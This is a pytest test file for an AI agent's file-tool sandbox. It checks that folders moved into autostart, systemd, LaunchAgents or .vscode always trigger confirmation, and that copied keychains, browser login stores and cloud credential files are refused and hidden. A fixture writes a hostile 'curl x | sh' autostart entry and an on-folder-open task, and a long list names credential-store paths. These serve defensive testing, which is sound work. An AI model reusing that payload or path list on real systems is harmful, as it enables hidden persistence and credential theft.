"""Persistence by folder, and secrets by name wherever they were copied.

A prepared folder moved into place as ``.vscode`` or ``~/.config/autostart`` (or made there by
create_directory) makes what it holds run later, like a file written there: its preview carries
the warning, so it is asked in every mode and under every grant. Keychains, keyrings, browser
login stores and cloud tools' credential folders copied into an allowed folder are secrets by
name: refused for every access, left out of listings and searches; their ordinary neighbours
are not.
"""

from __future__ import annotations

import os
from pathlib import Path
from typing import Any

import pytest

from tests.tools.attack_helpers import err, ok
from tray_app.agent.approval import needs_confirmation
from tray_app.base.errors import SandboxViolation
from tray_app.base.messages import parse_preview
from tray_app.tools.base import Risk
from tray_app.tools.builtin.files import FILE_TOOLS
from tray_app.tools.registry import ToolRegistry
from tray_app.tools.toolbox import Toolbox

ACCESSES = ("read", "write", "delete", "list", "search")
MARK = "S3CR3T-in-a-copied-store"


def _home_box(layout: Any, policy_for: Any) -> Toolbox:
    policy = policy_for(allowed_dirs=[layout.home], workspace=layout.home)
    return Toolbox(policy, registry=ToolRegistry(FILE_TOOLS))


def _always_asked(preview: dict[str, Any]) -> None:
    """Asked in full auto and under a session grant, like a file written there."""
    typed = parse_preview(preview)
    for mode, granted in (("full_auto", False), ("all_writes", True), ("delete_only", True)):
        assert needs_confirmation(risk=Risk.WRITE, mode=mode, preview=typed, granted=granted)


def _prepared(folder: Path) -> Path:
    folder.mkdir(parents=True)
    (folder / "tasks.json").write_text('{"tasks": [{"runOn": "folderOpen"}]}\n')
    (folder / "evil.desktop").write_text("[Desktop Entry]\nExec=sh -c 'curl x | sh'\n")
    return folder


# ---- folders put where they make something run later ---------------------------------------


@pytest.mark.parametrize(
    ("destination", "risk"),
    [
        (".vscode", "runs when the folder is opened in VS Code"),
        ("proj/.VSCode", "runs when the folder is opened in VS Code"),
        ("~/.config/autostart", "runs at login"),
        ("~/.config/systemd/user", "runs at login"),
        ("~/.config/systemd", "runs at login"),
        ("~/Library/LaunchAgents", "runs at login"),
        ("~/.config/fish", "runs in every new terminal shell"),
    ],
)
def test_moving_a_prepared_folder_into_place_is_always_asked(
    layout: Any, policy_for: Any, destination: str, risk: str
) -> None:
    box = _home_box(layout, policy_for)
    _prepared(layout.home / "prepared 准备")
    (layout.home / "proj").mkdir()
    preview = box.preview("move_file", {"source": "prepared 准备", "destination": destination})
    assert preview["kind"] == "move", preview
    assert preview["persistence"]["text"] == risk
    assert preview["persistence"]["path"] == preview["destination"]
    _always_asked(preview)


def test_moving_a_folder_into_an_existing_config_folder_is_always_asked(
    layout: Any, policy_for: Any
) -> None:
    """``~/.config`` exists: the move lands the folder inside it, as ``autostart``."""
    box = _home_box(layout, policy_for)
    (layout.home / ".config").mkdir()
    _prepared(layout.home / "stage" / "autostart")
    preview = box.preview("move_file", {"source": "stage/autostart", "destination": "~/.config"})
    assert preview["destination"] == str(layout.home / ".config" / "autostart")
    assert preview["persistence"]["code"] == "login"
    _always_asked(preview)


@pytest.mark.parametrize(
    ("path", "code"),
    [(".vscode", "vscode"), ("~/.config/autostart", "login"), ("~/Library/LaunchAgents", "login")],
)
def test_creating_such_a_folder_is_always_asked(
    layout: Any, policy_for: Any, path: str, code: str
) -> None:
    box = _home_box(layout, policy_for)
    preview = box.preview("create_directory", {"path": path})
    assert preview["persistence"]["code"] == code
    _always_asked(preview)
    ok(box.execute("create_directory", {"path": path}))
    again = box.preview("create_directory", {"path": path})  # it exists: nothing is made
    assert again["exists"] is True and "persistence" not in again


@pytest.mark.parametrize(
    ("tool", "args"),
    [
        ("move_file", {"source": "prepared", "destination": "docs"}),
        ("move_file", {"source": "prepared", "destination": "~/.config/myapp"}),
        ("move_file", {"source": "prepared", "destination": "vscode-settings"}),
        ("move_file", {"source": "notes.md", "destination": ".vscode-notes.md"}),
        ("create_directory", {"path": "~/.config/myapp/cache"}),
        ("create_directory", {"path": "src/autostart"}),
        ("create_directory", {"path": ".vscode/extensions"}),
    ],
)
def test_ordinary_folders_are_not_warned_about(
    layout: Any, policy_for: Any, tool: str, args: dict[str, str]
) -> None:
    box = _home_box(layout, policy_for)
    _prepared(layout.home / "prepared")
    (layout.home / "notes.md").write_text("# notes\n")
    preview = box.preview(tool, args)
    assert preview["kind"] != "error", preview
    assert "persistence" not in preview


def test_a_file_still_asks_where_a_folder_does(layout: Any, policy_for: Any) -> None:
    box = _home_box(layout, policy_for)
    (layout.home / "t.json").write_text("{}\n")
    (layout.home / ".vscode").mkdir()
    preview = box.preview("move_file", {"source": "t.json", "destination": ".vscode/tasks.json"})
    assert preview["persistence"]["code"] == "vscode"


# ---- secrets by name, wherever they were copied --------------------------------------------

SECRETS = [
    "backup/login.keychain-db",
    "backup/Login.keychain",
    "backup/gnome/login.keyring",
    "backup/kdewallet.kwl",
    "Chrome/Default/Login Data",
    "Chrome/Default/Login Data For Account",
    "Chrome/Default/Web Data",
    "Chrome/Local State",
    "Chrome/Default/Cookies",
    "Chrome/Default/Network/Cookies",
    "Chrome/Profile 2/Cookies",
    "firefox/abc.default-release/logins.json",
    "firefox/abc.default-release/logins-backup.json",
    "firefox/abc.default-release/key4.db",
    "firefox/old.default/key3.db",
    "firefox/old.default/signons.sqlite",
    "firefox/abc.default-release/cookies.sqlite",
    "safari/Cookies.binarycookies",
    "backup/.aws/config",
    "backup/.aws/sso/cache/token.json",
    "backup/.azure/azureProfile.json",
    "backup/.azure/msal_token_cache.json",
    "backup/azure/accessTokens.json",
    "backup/azure/service_principal_entries.json",
    "backup/.config/gcloud/configurations/config_default",
    "backup/gcloud/access_tokens.db",
    "backup/gcloud/application_default_credentials.json",
    "backup/.config/gh/hosts.yml",
    "backup/.local/share/keyrings/user.keystore",
    "backup/.kube/config",
    "backup/.docker/config.json",
]
ORDINARY = [
    "src/cookies.py",
    "src/cookies/banner.js",
    "ios/keychain.swift",
    "app/login_data.py",
    "venv/site-packages/keyrings/alt/file.py",
    "deploy/.docker/Dockerfile",
    "data/web_data.csv",
    "Chrome/Default/Preferences",
    "Chrome/Profile 2/notes.txt",
    "docs/aws.md",
    "docs/gh/README.md",
]


@pytest.mark.parametrize("rel", SECRETS)
def test_a_copied_secret_store_is_refused_and_hidden(box: Toolbox, layout: Any, rel: str) -> None:
    target = layout.work / rel
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text(f"token = {MARK}\n")
    for access in ACCESSES:
        with pytest.raises(SandboxViolation):
            box.policy.resolve(rel, access=access)  # type: ignore[arg-type]
    message = err(box.execute("read_file", {"path": rel}))
    assert MARK not in message
    top = rel.split("/")[0]
    listed = ok(
        box.execute("list_directory", {"path": top, "recursive": True, "include_hidden": True})
    )
    shown = {e["name"].replace(os.sep, "/") for e in listed["entries"]}
    inside = rel.split("/", 1)[1]
    assert inside not in shown
    found = ok(box.execute("search_files", {"path": top, "query": MARK, "include_hidden": True}))
    assert found["results"] == []


@pytest.mark.parametrize("rel", ORDINARY)
def test_ordinary_neighbours_of_secret_stores_stay_readable(
    box: Toolbox, layout: Any, rel: str
) -> None:
    target = layout.work / rel
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text("plain 普通\n")
    assert ok(box.execute("read_file", {"path": rel}))["content"] == "plain 普通\n"
